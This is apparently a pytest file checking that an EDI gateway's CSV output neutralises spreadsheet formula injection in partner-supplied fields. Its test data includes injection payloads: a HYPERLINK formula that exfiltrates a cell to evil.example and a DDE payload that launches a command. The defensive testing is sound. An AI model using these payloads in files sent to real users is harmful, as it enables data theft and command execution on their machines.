"""CSV formula injection: text a partner sent us must not become a formula in what we send
back (or in anything we write as CSV) when someone opens it in a spreadsheet.

The ``csv`` template filter prefixes a cell starting with ``= + - @``, a tab or a CR with an
apostrophe (a plain number such as ``-5`` is left alone); the unit cases are in
``tests/formats/test_templates.py`` (``test_csv_cell_quotes_and_neutralises``,
``test_csv_ack_neutralises_formulas_and_parses_back``). Here: the whole way, a partner's
CSV order in, our CSV 855 out, and every field of the rendered CSV checked.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest

from edigate.app import Gateway
from edigate.formats import read_partner_orders, render_outbound
from edigate.model import OrderAck
from edigate.translate import auto_ack

from . import targets
from .conftest import receive

ROOT = Path(__file__).resolve().parents[2]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click me")',
    "@SUM(1)",
    "+1+1",
    "-1+1",
    "=cmd|' /C calc'!A0",
]


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


def formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate (a plain negative number is a number, not one)."""
    found = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    Decimal(cell)
                except ArithmeticError:
                    found.append(cell)
    return found


def test_hostile_descriptions_from_a_csv_partner_come_back_neutralised(gateway: Gateway) -> None:
    header = "PO Number,Order Date,Deliver By,Ship To,Ship Address,Ship City,Ship State,Ship Zip,"
    header += "Item,Description,Qty,UOM,Price"
    rows = [header]
    for n, text in enumerate(HOSTILE, 1):
        quoted = '"' + text.replace('"', '""') + '"'
        item = "INI-1001" if n % 2 else "INI-1002"
        rows.append(f"IN-X-1,03/02/2026,,Initech,1 Way,Austin,TX,78744,{item},{quoted},{n},EA,1.00")
    receive(gateway, ("\n".join(rows) + "\n").encode(), partner_id="initech-csv", filename="x.csv")
    (answer,) = (gateway.config.sftp_root / "initech-csv" / "out").glob("*.csv")
    table = cells(answer.read_bytes())
    head, body = table[0], table[1:]
    described = [row[head.index("Description")] for row in body]
    assert described == ["'" + text for text in HOSTILE]
    assert formulas(table) == []


@pytest.mark.parametrize(
    "text",
    [*HOSTILE, "\t=1+1", "\r=1+1", "=1+1\n=2+2", "@", "-", "+"],
    ids=lambda t: repr(t)[:20],
)
def test_every_formula_start_is_neutralised_in_every_field(text: str) -> None:
    """A tab or CR start cannot come through our CSV reader (it strips cells): render directly,
    and put the text in every text field the CSV 855 writes (PO number, item IDs, units)."""
    partner = targets.registry().get("initech-csv")
    assert partner is not None
    data = (ROOT / "samples/csv/initech-orders.csv").read_bytes()
    order = read_partner_orders(data, partner.map).orders[0]
    ack = auto_ack(order, ack_date=dt.date(2026, 3, 3))
    line = ack.lines[0]
    bp = line.identifiers[0]
    hostile_line = line.model_copy(
        update={
            "descriptions": [line.descriptions[0].model_copy(update={"text": text})],
            "identifiers": [
                bp.model_copy(update={"value": text}),
                bp.model_copy(update={"qualifier": "VN", "value": text}),
            ],
            "unit": text,
        }
    )
    ack = ack.model_copy(update={"po_number": text, "lines": [hostile_line, *ack.lines[1:]]})
    assert isinstance(ack, OrderAck)
    body, suffix = render_outbound(ack, partner, now=dt.datetime(2026, 3, 3, tzinfo=dt.UTC))
    assert suffix == ".csv"
    table = cells(body)
    assert formulas(table) == []
    first = table[1]
    assert first.count("'" + text) == 5  # PO number, item, vendor item, description, unit
    assert len(table) == 1 + len(ack.lines)  # a CR or LF inside a cell did not split the row


def test_plain_negative_numbers_are_left_alone() -> None:
    partner = targets.registry().get("initech-csv")
    assert partner is not None
    data = (ROOT / "samples/csv/initech-orders.csv").read_bytes()
    order = read_partner_orders(data, partner.map).orders[0]
    ack = auto_ack(order, ack_date=dt.date(2026, 3, 3))
    line = ack.lines[0]
    line = line.model_copy(
        update={"descriptions": [line.descriptions[0].model_copy(update={"text": "-5"})]}
    )
    ack = ack.model_copy(update={"lines": [line, *ack.lines[1:]]})
    body, _ = render_outbound(ack, partner, now=dt.datetime(2026, 3, 3, tzinfo=dt.UTC))
    head, first = cells(body)[:2]
    assert first[head.index("Description")] == "-5"
